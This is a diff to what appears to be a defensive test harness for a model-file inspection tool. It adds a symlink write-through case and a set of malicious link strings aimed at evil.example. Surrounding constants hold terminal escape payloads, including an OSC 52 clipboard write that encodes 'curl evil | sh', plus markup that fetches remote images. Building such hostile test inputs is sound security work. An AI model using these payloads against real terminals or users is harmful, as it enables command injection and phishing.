@@ -170,6 +170,20 @@ def case_long_names(folder: Path, scale: int) -> Path:
     return _copy_arm(folder, "m" * 246, side_files=False)
 
 
+VICTIM_TEXT = "a file outside the program's folder, which no command may write\n"
+
+
+@case
+def case_report_symlink(folder: Path, scale: int) -> Path:
+    """`report.html` in the folder is a symlink to a file outside it (`report -o` of that name
+    wrote through it); `graph.json` the same for `export`."""
+    pte = _copy_profiled(folder)
+    victim = folder.parent / f"{folder.name}.victim.txt"
+    victim.write_text(VICTIM_TEXT)
+    os.symlink(victim, folder / "report.html")
+    return pte
+
+
 # --- side files made by ExecuTorch's serializers with hostile structure -----------------------
 
 
@@ -276,12 +290,17 @@ def case_etdump_backwards(folder: Path, scale: int) -> Path:
 # What a name in a file may try on a terminal: set the window title, write a command into the
 # clipboard (OSC 52), erase its own line, a C1 CSI, a bell, a right-to-left override.
 TERMINAL_PAYLOAD = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\r\x9b31m\x07\u202e"
-# What Model Explorer could render from an attribute or an error: a markdown link, a bare URL, an
-# image tag that fetches a URL.
+# What Model Explorer could render from an attribute or an error: a markdown link, a bare URL, a
+# short link, an image tag that fetches a URL.
 MARKUP_PAYLOAD = (
     "[download the fixed model](https://evil.example/fix) see https://evil.example/bare "
     "<img src=https://evil.example/img.png>"
 )
+LINK_SPECS = {
+    "link": "[download the fixed model](https://evil.example/fix)",
+    "url": "https://evil.example/bare",
+    "golink": "go/evil.example",
+}
 
 
 def _reserialised(src: Path, dst: Path, edit: Callable[[Any], None]) -> None:
@@ -309,6 +328,7 @@ def case_names_with_escapes(folder: Path, scale: int) -> Path:
             d.compile_specs.append(
                 CompileSpec("notes", (MARKUP_PAYLOAD + TERMINAL_PAYLOAD).encode() * scale)
             )
+            d.compile_specs += [CompileSpec(k, v.encode()) for k, v in LINK_SPECS.items()]
 
     _reserialised(EXAMPLES / f"{ARM}.pte", pte, edit)
     return pte
@@ -334,7 +354,7 @@ COMMANDS: tuple[tuple[str, ...], ...] = (
     ("size", "{pte}"),
     ("diff", "{pte}", "{pte}"),
     ("profile", "{pte}"),
-    ("report", "{pte}", "-o", "{out}/report.html"),
+    ("report", "{pte}", "-o", "{folder}/report.html"),
     ("export", "{pte}", "-o", "{out}/graph.json"),
 )
 EXIT_INTERNAL = 4
@@ -411,7 +431,7 @@ def run_case(pte: Path, out: Path) -> list[Run]:
     """Every command and the Model Explorer conversion on one case's program."""
     runs = []
     for command in COMMANDS:
-        argv = [a.format(pte=pte, out=out) for a in command]
+        argv = [a.format(pte=pte, out=out, folder=pte.parent) for a in command]
         status, text, seconds = _limited(lambda argv=argv: _cli(argv))
         controls = sorted({f"U+{ord(c):04X}" for c in text if c in TERMINAL_CONTROLS})
         runs.append(Run(" ".join(command[:2]), _status(status, text), seconds, text, controls))
@@ -482,7 +502,7 @@ def main(spec_path: str) -> int:
 
     warm = str(EXAMPLES / f"{ARM}.pte")  # every lazy import of a command, done once
     for command in COMMANDS:
-        _cli([a.format(pte=warm, out=spec["out"]) for a in command])
+        _cli([a.format(pte=warm, out=spec["out"], folder=spec["out"]) for a in command])
     _explorer(Path(warm))
     for name, pte in spec["cases"]:
         print(json.dumps(_in_child(name, Path(pte), Path(spec["out"]) / name)), flush=True)
